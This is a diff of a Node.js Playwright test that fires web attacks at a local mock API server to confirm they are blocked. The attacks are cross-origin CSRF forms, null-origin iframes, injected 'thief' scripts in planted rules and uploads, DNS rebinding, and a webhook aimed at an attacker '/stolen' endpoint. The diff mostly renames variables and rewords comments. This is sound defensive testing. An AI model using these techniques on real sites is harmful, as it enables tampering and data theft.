@@ -1,8 +1,8 @@
-// Attacks of web pages on the server at 127.0.0.1:PORT, each with a line of what came of it:
+// Runs attacks of web pages on the server at 127.0.0.1:PORT, and prints a line for each result:
 //
 //   node attacks.mjs PORT
 //
-// Ends with exit code 1 if any attack succeeded, or a page of the server's own did not work.
+// Exit code 1 if an attack succeeded, or one of the server's own pages did not work.
 
 import assert from "node:assert/strict";
 
@@ -13,7 +13,7 @@ import { presign } from "./presign.mjs";
 
 const port = process.argv[2];
 const direct = `http://127.0.0.1:${port}`;
-// Browsers send Sec-Fetch-Site to the first two only: the last is not potentially trustworthy.
+// Browsers send Sec-Fetch-Site to the first two only: the third is not a potentially trustworthy origin.
 const origins = [direct, `http://localhost:${port}`, `http://mock.test:${port}`];
 const attacker = await startAttacker();
 const browser = await chromium.launch({
@@ -27,14 +27,14 @@ const browser = await chromium.launch({
 
 let failures = 0;
 
-/** Runs one attack on a page of its own, and prints what came of it. */
+/** Runs one attack on a new page, and prints the result. */
 async function attempt(name, run) {
   const page = await browser.newPage();
   try {
-    await keepState();
-    const came = await run(page);
+    await resetState();
+    const result = await run(page);
     await assertState();
-    console.log(`ok      ${name}: ${came}`);
+    console.log(`ok      ${name}: ${result}`);
   } catch (error) {
     failures += 1;
     console.log(`FAILED  ${name}: ${error.message}`);
@@ -45,14 +45,14 @@ async function attempt(name, run) {
 
 async function call(method, path, body) {
   const text = body === undefined ? undefined : JSON.stringify(body);
-  const answer = await fetch(`${direct}${path}`, { method, body: text });
-  const answered = await answer.text();
-  assert.ok(answer.ok, `${method} ${path}: ${answer.status} ${answered}`);
-  return answered === "" ? null : JSON.parse(answered);
+  const response = await fetch(`${direct}${path}`, { method, body: text });
+  const content = await response.text();
+  assert.ok(response.ok, `${method} ${path}: ${response.status} ${content}`);
+  return content === "" ? null : JSON.parse(content);
 }
 
-/** The state that no attack may change: one account, no rules. */
-async function keepState() {
+/** Sets the state that no attack may change: one account, no rules. */
+async function resetState() {
   await call("POST", "/_mock/reset");
   await call("PUT", "/_mock/accounts/secret-key", { plan: "pro" });
   attacker.stolen.length = 0;
@@ -63,17 +63,17 @@ async function assertState() {
   assert.deepEqual(accounts.map(({ key, plan }) => `${key} ${plan}`), ["secret-key pro"], "the accounts changed");
   const { rules } = await call("GET", "/_mock/rules");
   assert.deepEqual(rules, [], "a rule was planted");
-  assert.deepEqual(attacker.stolen, [], "the attacker got something");
+  assert.deepEqual(attacker.stolen, [], "the attacker received data");
 }
 
-/** Number of requests that the server refused, so that an attack which never arrived is noticed. */
+/** Returns the number of requests that the server refused for that reason. It shows whether an attack arrived. */
 async function refusals(reason) {
   const page = await (await fetch(`${direct}/_mock/metrics`)).text();
   const pattern = new RegExp(`^stuntdouble_http_requests_total\\{operation="${reason}",.*\\} (\\d+)$`, "m");
   return Number(pattern.exec(page)?.[1] ?? 0);
 }
 
-/** Runs an attack that has to be refused for that reason. */
+/** Runs an attack that must be refused for that reason. */
 async function refused(reason, run) {
   const before = await refusals(reason);
   await run();
@@ -95,9 +95,9 @@ for (const origin of origins) {
     const form = `<form method="post" enctype="text/plain" action="${origin}/_mock/reset"><input name="{}"></form>
       <script>document.forms[0].submit()</script>`;
     attacker.pages.set("/form", form);
-    const answered = page.waitForResponse((answer) => answer.url().endsWith("/_mock/reset"));
+    const response = page.waitForResponse((it) => it.url().endsWith("/_mock/reset"));
     await open(page, "/form");
-    assert.equal((await answered).status(), 403);
+    assert.equal((await response).status(), 403);
   }));
 
   await attempt(`reset by fetch, no-cors and text/plain, ${origin}`, (page) => refused("cross_origin", async () => {
@@ -112,9 +112,9 @@ for (const origin of origins) {
       <form method="post" target="_top" enctype="text/plain" action="${origin}/_mock/reset"></form>
       <script>document.forms[0].submit()</script>'></iframe>`;
     attacker.pages.set("/null", form);
-    const answered = page.waitForResponse((answer) => answer.url().endsWith("/_mock/reset"));
+    const response = page.waitForResponse((it) => it.url().endsWith("/_mock/reset"));
     await open(page, "/null");
-    assert.equal((await answered).status(), 403);
+    assert.equal((await response).status(), 403);
   }));
 
   await attempt(`rule planted from another origin, ${origin}`, (page) => refused("cross_origin", async () => {
@@ -142,8 +142,8 @@ for (const origin of origins) {
 
   await attempt(`script of a rule opened on the server's origin, ${origin}`, async (page) => {
     await call("POST", "/_mock/rules", planted(`<title>planted</title><script>${thief(attacker)}</script>`));
-    const answer = await page.goto(`${origin}/planted`);
-    assert.equal(answer.status(), 200);
+    const response = await page.goto(`${origin}/planted`);
+    assert.equal(response.status(), 200);
     await call("DELETE", "/_mock/rules");
     return "shown, no script ran";
   });
@@ -156,14 +156,14 @@ for (const origin of origins) {
   ]) {
     await attempt(`script of an upload opened on the server's origin, ${name}, ${origin}`, async (page) => {
       await open(page);
-      // Storage takes uploads of any origin, as S3 does that is set up for them.
+      // Storage accepts uploads from any origin, as S3 does if it is configured so.
       const put = presign("PUT", origin, "bizmori", name);
       const status = await page.evaluate(([url, body, headers]) =>
         fetch(url, { method: "PUT", body: new Blob([body]), headers }).then((it) => it.status),
       [put, content, type === "" ? {} : { "content-type": type }]);
       assert.equal(status, 200);
       const shown = await page.goto(presign("GET", origin, "bizmori", name)).catch((error) => {
-        // What a browser does not show, it downloads.
+        // A browser downloads what it does not show.
         assert.match(error.message, /Download is starting/);
         return null;
       });
@@ -175,10 +175,10 @@ for (const origin of origins) {
 
 await attempt("DNS rebinding: a page whose host leads to the server", (page) => refused("unknown_host", async () => {
   const rebound = `http://rebound.example:${port}`;
-  // The name is rebound already. What runs below stands for the script of a page that the attacker
-  // served by this name before; it has the same origin as a vendor's answer, which any host gets.
-  const answer = await page.goto(`${rebound}/openapi.json`);
-  assert.equal(answer.status(), 200);
+  // The name already leads to the server. The script below stands for the script of a page that the attacker
+  // served under this name before. It has the origin of a vendor's response, which any host gets.
+  const response = await page.goto(`${rebound}/openapi.json`);
+  assert.equal(response.status(), 200);
   const statuses = await page.evaluate(async (rule) => {
     const status = (path, options) => fetch(path, options).then((it) => it.status);
     return [
@@ -212,16 +212,17 @@ for (const origin of origins) {
 }
 
 const attackerPort = new URL(attacker.origin).port;
-/** Pages of local hosts may call BIZ MORI's API, as those of evil.test; no page of the internet may. */
+/** Pages of local hosts, such as evil.test, may call BIZ MORI's API. Pages of the internet may not. */
 const localPage = `http://localhost:${attackerPort}`;
 const foreignPage = `http://evil.example:${attackerPort}`;
 
-/** Runs in a page: takes an order of BIZ MORI from its create to its detail. */
+/** Creates, uploads, confirms and reads an order of BIZ MORI. Runs in a page. */
 async function takeOrder(api) {
   const headers = { authorization: "Bearer secret-key", "content-type": "application/json" };
   const call = async (path, options) => {
-    const answer = await fetch(`${api}${path}`, { headers, ...options });
-    return { status: answer.status, body: await answer.json(), reason: answer.headers.get("x-mock-reason") };
+    const response = await fetch(`${api}${path}`, { headers, ...options });
+    const reason = response.headers.get("x-mock-reason");
+    return { status: response.status, body: await response.json(), reason };
   };
   const post = (path, body) => call(path, { method: "POST", body: JSON.stringify(body) });
   const orders = "/api/v2/orders";
@@ -235,8 +236,8 @@ async function takeOrder(api) {
   const hook = `${orders}/webhooks/${webhook.body.data.id}`;
   const changed = await call(hook, { method: "PUT", body: JSON.stringify({ url: "http://127.0.0.1:2/" }) });
   const removed = await call(hook, { method: "DELETE" });
-  const answers = [created, put, confirmed, read, missing, webhook, changed, removed];
-  return { statuses: answers.map(({ status }) => status), name: read.body.data.orderName, reason: missing.reason };
+  const responses = [created, put, confirmed, read, missing, webhook, changed, removed];
+  return { statuses: responses.map(({ status }) => status), name: read.body.data.orderName, reason: missing.reason };
 }
 
 for (const origin of [direct, `http://localhost:${port}`]) {
@@ -259,8 +260,8 @@ for (const origin of [direct, `http://localhost:${port}`]) {
     const body = JSON.stringify({ url: `${attacker.origin}/stolen` });
     const post = { method: "POST", headers: { ...authorization.headers, "content-type": "application/json" }, body };
     assert.equal(await read(`${origin}/api/v2/orders/webhooks`, post), "blocked");
-    const answer = await fetch(`${direct}/api/v2/orders/webhooks`, authorization);
-    assert.deepEqual((await answer.json()).data.webhooks, [], "a webhook was made");
+    const response = await fetch(`${direct}/api/v2/orders/webhooks`, authorization);
+    assert.deepEqual((await response.json()).data.webhooks, [], "a webhook was created");
   }));
 }
 
